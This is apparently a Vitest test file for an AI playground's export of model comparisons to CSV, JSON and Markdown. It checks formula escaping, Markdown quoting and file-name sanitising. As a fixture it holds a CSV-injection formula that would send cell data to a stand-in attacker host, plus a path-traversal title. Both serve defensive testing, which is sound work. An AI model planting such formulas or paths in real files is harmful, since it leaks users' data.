import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { sentOf } from "@/lib/playground/asked";
import { type PlaygroundDocument, playgroundDocument } from "@/lib/playground/document";
import { csvCell } from "@/lib/playground/export/csv-cell";
import { exportFile, fileNameOf } from "@/lib/playground/export/export-file";
import { answer, documentWith } from "./documents";
import { loaded, triage } from "./library";

const at = new Date("2026-11-21T09:11:00Z");
const hostile = '=HYPERLINK("http://evil.example?"&A1,"x")';

const document: PlaygroundDocument = documentWith({
  system: "You help {{who}}.",
  columns: [
    { id: "a", model: "pebble-2m", engine: "server", parameters: { seed: 7, top_p: null } },
    { id: "b", model: "host/large|x", engine: "remote", parameters: {}, system: "Own words for {{who}}." },
  ],
  turns: [
    {
      id: "t1",
      parent: null,
      user: 'First, with "quotes",\nand a line',
      lead: [{ id: "m1", role: "assistant", text: "Before." }],
      attachments: [{ kind: "text", id: "f1", name: "notes.txt", text: "inside" }],
      values: { who: "Mira" },
      answers: {
        a: [
          answer,
          { ...answer, text: hostile, metrics: answer.metrics && { ...answer.metrics, cost: 0.00006 } },
        ],
        b: [
          { ...answer, text: "", outcome: "failed", failure: { code: "upstream", message: "It said 500." } },
        ],
      },
      chosen: { a: 0 },
    },
    {
      id: "t2",
      parent: "t1",
      user: "Go on",
      answers: { a: [{ ...answer, text: "# not a heading\r\n```\n> x" }] },
    },
    { id: "t3", parent: "t1", user: "@other", column: "b", answers: { b: [{ ...answer, text: "-1+1" }] } },
    { id: "t4", parent: null, user: "Anew", answers: {} },
  ],
  head: "t2",
  rows: [
    {
      id: "r1",
      values: { who: "Noor", ticket: "+49 30 1" },
      answers: { a: { ...answer, text: "row answer" } },
    },
    { id: "r2", values: { who: "Ben" }, answers: {} },
  ],
});

describe("a comparison as CSV", () => {
  const file = exportFile("csv", "Ticket summary", document, at);
  const rows = Papa.parse<Record<string, string>>(file.text.replace(/^\uFEFF/, ""), {
    header: true,
    skipEmptyLines: true,
  });

  it("has one line for each answer and row, which any reader takes", () => {
    expect(rows.errors).toEqual([]);
    expect(
      rows.data.map((row) => [row.kind, row.branch, row.row, row.column, row.answer_number, row.counts]),
    ).toEqual([
      ["turn", "1", "", "A", "1", "yes"],
      ["turn", "1", "", "A", "2", "no"],
      ["turn", "1", "", "B", "1", "yes"],
      ["turn", "1.1", "", "A", "1", "yes"],
      ["turn", "1.2", "", "B", "1", "yes"],
      ["row", "", "1", "A", "1", "yes"],
    ]);
    expect(rows.data[0]).toMatchObject({
      model: "pebble-2m",
      parameters: '{"temperature":0.4,"seed":7}',
      system: "You help Mira.",
      user: 'First, with "quotes",\nand a line',
      attachments: "notes.txt",
      answer: "positive",
      first_token_ms: "41",
      tokens_per_second: "210.5",
      "variable who": "Mira",
    });
    expect(rows.data[1]?.cost_usd).toBe("0.00006");
    expect(rows.data[2]).toMatchObject({
      outcome: "failed",
      error: "It said 500.",
      system: "Own words for Mira.",
    });
  });

  it("begins no cell as a formula, so that an answer cannot act when the sheet is opened", () => {
    expect(rows.data.map((row) => row.answer).filter((text) => /^[=+\-@\t\r]/.test(text ?? ""))).toEqual([]);
    expect(rows.data[1]?.answer).toBe(`'${hostile}`);
    expect(rows.data[4]?.answer).toBe("'-1+1");
    expect(rows.data[4]?.user).toBe("'@other");
    expect(rows.data[5]?.["variable ticket"]).toBe("'+49 30 1");
  });

  it.each([
    ["=1", "'=1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@a", "'@a"],
    ["\ta", "'\ta"],
    ["\ra", '"\'\ra"'],
    ["＝1", "'＝1"],
    ["a=1", "a=1"],
    ["", ""],
    ['say "hi"', '"say ""hi"""'],
    ["a,b", '"a,b"'],
    [-1.5, "-1.5"],
    [0, "0"],
    [null, ""],
    [undefined, ""],
  ])("writes %j as %j", (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});

describe("a comparison as JSON", () => {
  it("is the document in an envelope, and can be read in again", () => {
    const envelope = JSON.parse(exportFile("json", "Ticket summary", document, at).text) as Record<
      string,
      unknown
    >;
    expect(envelope).toMatchObject({
      format: "tessera.playground",
      version: 1,
      exportedAt: "2026-11-21T09:11:00.000Z",
      title: "Ticket summary",
    });
    expect(playgroundDocument.parse(envelope.document)).toEqual(document);
  });
});

describe("a comparison as Markdown", () => {
  const { text } = exportFile("markdown", "Ticket *summary*\n# x", document, at);

  it("names columns, branches, answers and figures", () => {
    expect(text).toContain("# Ticket \\*summary\\* \\# x\n\nExported from Tessera on 2026-11-21 09:11 UTC.");
    expect(text).toContain('| B | `host/large\\|x` | remote | `{"temperature":0.4}` |');
    expect(text).toContain("## Turn 2, branch 1.2, to B alone");
    expect(text).toContain(
      "### A: `pebble-2m`, answer 1 of 2, the one that counts\n\n> positive\n\nstop · first token 41 ms · 210.5 tokens/s · 38 in / 2 out · ONNX, CPU",
    );
    expect(text).toContain("No text.\n\nfailed · ");
    expect(text).toContain("Attached: notes.txt");
    expect(text).toContain("## Row 1\n\n**who**\n\n> Noor");
  });

  it("keeps what a model wrote inside its quotation", () => {
    expect(text).toContain("> # not a heading\n> ```\n> > x");
    const outside = text.split("\n").filter((line) => !line.startsWith(">"));
    expect(outside.join("\n")).not.toContain("not a heading");
    expect(outside.join("\n")).not.toContain("```");
  });
});

describe("the name of a file", () => {
  it.each([
    ["Ticket summary", "ticket-summary.csv"],
    ["../../etc/passwd", "etc-passwd.csv"],
    ["Größe & 日本", "größe-日本.csv"],
    ["***", "comparison.csv"],
    ["CON", "comparison-con.csv"],
    ["a".repeat(300), `${"a".repeat(80)}.csv`],
  ])("%s becomes %s", (title, name) => {
    expect(fileNameOf(title, "csv")).toBe(name);
  });
});

describe("a comparison that prompts of the library asked", () => {
  const asked = sentOf(loaded(triage), { ticket: "T-1" }, []);
  const answered = { ...answer, prompt: asked.prompt };
  const compared = documentWith({
    system: "Sent to nobody.",
    prompt: loaded(triage, { version: 4 }),
    columns: [
      { id: "a", model: "pebble-2m", engine: "server", parameters: {}, prompt: loaded(triage) },
      { id: "b", model: "pebble-2m", engine: "server", parameters: {} },
    ],
    turns: [{ id: "t1", parent: null, user: "Ticket: T-1", asked: { a: asked }, answers: { a: [answered] } }],
  });

  it("names prompt and version in Markdown, with what was asked", () => {
    const { text } = exportFile("markdown", "x", compared, at);
    expect(text).toContain('| A | `pebble-2m` | server | `{"temperature":0.4}` | `main.support.triage v3` |');
    expect(text).toContain("| `main.support.triage v4` |");
    expect(text).toContain(
      "**A is asked by** `main.support.triage v3`\n\n**system**\n\n> Sort tickets. Be kind.",
    );
    expect(text).toContain("asked by main.support.triage v3");
    expect(text).not.toContain("Sent to nobody.");
  });

  it("names them in CSV beside each answer, and in JSON as they are", () => {
    const { data } = Papa.parse<Record<string, string>>(exportFile("csv", "x", compared, at).text, {
      header: true,
    });
    expect(data[0]).toMatchObject({
      prompt: "main.support.triage",
      prompt_version: "3",
      prompt_edited: "no",
      system: "Sort tickets. Be kind.",
      user: "Ticket: T-1",
    });
    const envelope = JSON.parse(exportFile("json", "x", compared, at).text) as { document: unknown };
    expect(playgroundDocument.parse(envelope.document)).toEqual(compared);
  });
});
